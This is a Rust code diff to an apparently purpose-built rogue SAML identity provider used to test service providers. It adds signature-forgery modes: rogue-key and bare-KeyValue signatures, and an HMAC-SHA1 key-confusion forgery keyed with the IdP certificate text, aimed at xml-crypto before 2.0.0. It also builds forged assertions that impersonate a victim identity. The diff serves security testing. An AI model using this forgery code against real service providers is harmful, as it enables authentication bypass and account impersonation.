@@ -355,10 +355,12 @@ pub(crate) fn respond(
         }
         _ => {}
     }
-    let signer: Option<&SigningKey> = match attack {
+    let signer = match attack {
         Some(Attack::SamlUnsigned) => None,
-        Some(Attack::SamlUnknownKey) => Some(&idp.rogue),
-        _ => Some(idp.key()),
+        Some(Attack::SamlUnknownKey) => Some(Signer::new(idp.rogue_key(), KeyForm::Certificate)?),
+        Some(Attack::SamlKeyValue) => Some(Signer::new(idp.rogue_key(), KeyForm::KeyValue)?),
+        Some(Attack::SamlHmacPublicCert) => Some(Signer::new(idp.key(), KeyForm::Hmac)?),
+        _ => Some(Signer::new(idp.key(), KeyForm::Certificate)?),
     };
     // An SP whose metadata sets `WantAssertionsSigned` gets its
     // assertions signed too (SAML metadata §2.4.4).
@@ -376,8 +378,8 @@ pub(crate) fn respond(
         (None, SignaturePlacement::Response) if wants_assertion_signed => SignaturePlacement::Both,
         (None, placement) => placement,
     };
-    let assertion_signer = signer.filter(|_| placement.signs_assertion());
-    let response_signer = signer.filter(|_| placement.signs_response());
+    let assertion_signer = signer.as_ref().filter(|_| placement.signs_assertion());
+    let response_signer = signer.as_ref().filter(|_| placement.signs_response());
     let evil = victim.map(|victim| AssertionParts {
         id: format!("_a{}", hex_id()),
         identity: victim.clone(),
@@ -396,7 +398,7 @@ pub(crate) fn respond(
         _ => None,
     };
     let mut genuine = match assertion_signer {
-        Some(key) => sign(&assertion.to_xml(Some(key)), key)?,
+        Some(signer) => signer.sign(&assertion.to_xml(Some(signer)))?,
         None => assertion.to_xml(None),
     };
     if let Some(victim_key) = cut {
@@ -432,7 +434,7 @@ pub(crate) fn respond(
     };
     let id = format!("_r{}", hex_id());
     let signature = response_signer
-        .map(|key| signature_template(&id, key))
+        .map(|signer| signer.template(&id))
         .unwrap_or_default();
     let extensions = extensions
         .map(|inner| format!("<samlp:Extensions>{inner}</samlp:Extensions>"))
@@ -441,7 +443,7 @@ pub(crate) fn respond(
     // libxmlsec1 signs the first `Signature` template of the document in
     // document order: the response's, which precedes the assertions.
     let mut xml = match response_signer {
-        Some(key) => sign(&document, key)?,
+        Some(signer) => signer.sign(&document)?,
         None => document,
     };
     let mut cleartext = carried;
@@ -559,25 +561,134 @@ fn genuine_id(xml: &str) -> Option<String> {
     Some(xml[start..end].to_owned())
 }
 
-/// `xml` with its first signature template filled by `key`, without the
-/// XML declaration libxml2 adds (the result is embedded in a response).
-fn sign(xml: &str, key: &SigningKey) -> Result<String, IdpError> {
-    let signed = Crypto::sign_xml(xml.as_bytes(), &key.private_der()?)
-        .map_err(|error| IdpError::Crypto(error.to_string()))?;
-    let body = match signed.strip_prefix("<?xml") {
-        Some(rest) => rest.split_once("?>").map_or(rest, |(_, after)| after),
-        None => &signed,
-    };
-    Ok(body.trim().to_owned())
+/// How a signature names its key: the IdP's own form, or the forms of
+/// SSO-21's unknown-key family.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum KeyForm {
+    /// RSA-SHA256, the signing certificate in `X509Data`.
+    Certificate,
+    /// RSA-SHA256, the key as a bare `KeyValue` (modulus and exponent).
+    KeyValue,
+    /// HMAC-SHA1 keyed with the certificate's PEM text, the certificate in
+    /// `X509Data` as if the IdP had signed: the key confusion of xml-crypto
+    /// before 2.0.0 (GHSA-c27r-x354-4m68), whose only HMAC was SHA-1.
+    Hmac,
 }
 
-/// An enveloped signature over the element `id`: exclusive c14n,
-/// RSA-SHA256, SHA-256 digest, the signing certificate in `KeyInfo`.
-fn signature_template(id: &str, key: &SigningKey) -> String {
+const RSA_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256";
+const HMAC_SHA1: &str = "http://www.w3.org/2000/09/xmldsig#hmac-sha1";
+
+/// A key and the form its signatures take.
+struct Signer<'a> {
+    key: &'a SigningKey,
+    form: KeyForm,
+    key_info: String,
+}
+
+impl<'a> Signer<'a> {
+    fn new(key: &'a SigningKey, form: KeyForm) -> Result<Self, IdpError> {
+        let key_info = match form {
+            KeyForm::Certificate | KeyForm::Hmac => format!(
+                "<ds:X509Data><ds:X509Certificate>{}</ds:X509Certificate></ds:X509Data>",
+                key.cert_base64()
+            ),
+            KeyForm::KeyValue => {
+                let (n, e) = key.public_numbers()?;
+                format!(
+                    "<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>{}</ds:Modulus><ds:Exponent>{}</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>",
+                    STANDARD.encode(n),
+                    STANDARD.encode(e)
+                )
+            }
+        };
+        Ok(Self {
+            key,
+            form,
+            key_info,
+        })
+    }
+
+    /// An enveloped signature template over the element `id`: exclusive
+    /// c14n, RSA-SHA256, SHA-256 digest, the key as the form says.
+    fn template(&self, id: &str) -> String {
+        format!(
+            r#"<ds:Signature xmlns:ds="{DSIG}">{signed_info}<ds:SignatureValue></ds:SignatureValue><ds:KeyInfo>{key_info}</ds:KeyInfo></ds:Signature>"#,
+            signed_info = signed_info(id, RSA_SHA256, ""),
+            key_info = self.key_info,
+        )
+    }
+
+    /// `xml` with its first signature template filled, without the XML
+    /// declaration libxml2 adds (the result is embedded in a response).
+    fn sign(&self, xml: &str) -> Result<String, IdpError> {
+        let signed = Crypto::sign_xml(xml.as_bytes(), &self.key.private_der()?)
+            .map_err(|error| IdpError::Crypto(error.to_string()))?;
+        let body = match signed.strip_prefix("<?xml") {
+            Some(rest) => rest.split_once("?>").map_or(rest, |(_, after)| after),
+            None => &signed,
+        };
+        let body = body.trim();
+        match self.form {
+            KeyForm::Hmac => hmac_resigned(body, &self.key.cert_pem()),
+            KeyForm::Certificate | KeyForm::KeyValue => Ok(body.to_owned()),
+        }
+    }
+}
+
+const DSIG: &str = "http://www.w3.org/2000/09/xmldsig#";
+
+/// A `SignedInfo` in its exclusive-c14n form (namespace declared on it,
+/// empty elements written out), so that its bytes as sent are the bytes
+/// signed: the HMAC variant is computed over exactly this text.
+fn signed_info(id: &str, method: &str, digest: &str) -> String {
     format!(
-        r##"<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/><ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/><ds:Reference URI="#{id}"><ds:Transforms><ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/><ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></ds:Transforms><ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue></ds:DigestValue></ds:Reference></ds:SignedInfo><ds:SignatureValue></ds:SignatureValue><ds:KeyInfo><ds:X509Data><ds:X509Certificate>{cert}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></ds:Signature>"##,
-        cert = key.cert_base64(),
+        r##"<ds:SignedInfo xmlns:ds="{DSIG}"><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"></ds:CanonicalizationMethod><ds:SignatureMethod Algorithm="{method}"></ds:SignatureMethod><ds:Reference URI="#{id}"><ds:Transforms><ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"></ds:Transform><ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"></ds:Transform></ds:Transforms><ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"></ds:DigestMethod><ds:DigestValue>{digest}</ds:DigestValue></ds:Reference></ds:SignedInfo>"##
     )
+}
+
+/// The HMAC variant: libxmlsec1 computed the reference's digest with RSA;
+/// its `SignedInfo` is rewritten for HMAC-SHA1 and signed with `secret`
+/// (the PEM text of the IdP's certificate, which every SP holds).
+fn hmac_resigned(signed: &str, secret: &str) -> Result<String, IdpError> {
+    let between = |open: &str, close: &str| -> Option<(usize, usize)> {
+        let start = signed.find(open)?;
+        let end = start + signed[start..].find(close)? + close.len();
+        Some((start, end))
+    };
+    let missing = || IdpError::Crypto("signature sans SignedInfo complet".to_owned());
+    let (info_start, info_end) =
+        between("<ds:SignedInfo", "</ds:SignedInfo>").ok_or_else(missing)?;
+    let info = &signed[info_start..info_end];
+    let field = |open: &str, close: &str| -> Option<&str> {
+        let start = info.find(open)? + open.len();
+        let end = start + info[start..].find(close)?;
+        Some(&info[start..end])
+    };
+    let id = field("URI=\"#", "\"").ok_or_else(missing)?;
+    let digest = field("<ds:DigestValue>", "</ds:DigestValue>").ok_or_else(missing)?;
+    let canonical = signed_info(id, HMAC_SHA1, digest.trim());
+    let mac = super::oidc::hmac(
+        openssl::hash::MessageDigest::sha1(),
+        secret.as_bytes(),
+        canonical.as_bytes(),
+    )?;
+    let rest = &signed[info_end..];
+    let (value_start, value_end) = {
+        let open = "<ds:SignatureValue>";
+        let start = rest.find(open).ok_or_else(missing)? + open.len();
+        let end = start
+            + rest[start..]
+                .find("</ds:SignatureValue>")
+                .ok_or_else(missing)?;
+        (start, end)
+    };
+    Ok(format!(
+        "{}{canonical}{}{}{}",
+        &signed[..info_start],
+        &rest[..value_start],
+        STANDARD.encode(mac),
+        &rest[value_end..]
+    ))
 }
 
 #[derive(Clone)]
@@ -595,9 +706,9 @@ struct AssertionParts {
 }
 
 impl AssertionParts {
-    fn to_xml(&self, signer: Option<&SigningKey>) -> String {
+    fn to_xml(&self, signer: Option<&Signer<'_>>) -> String {
         let signature = signer
-            .map(|key| signature_template(&self.id, key))
+            .map(|signer| signer.template(&self.id))
             .unwrap_or_default();
         let attributes: String = self
             .identity
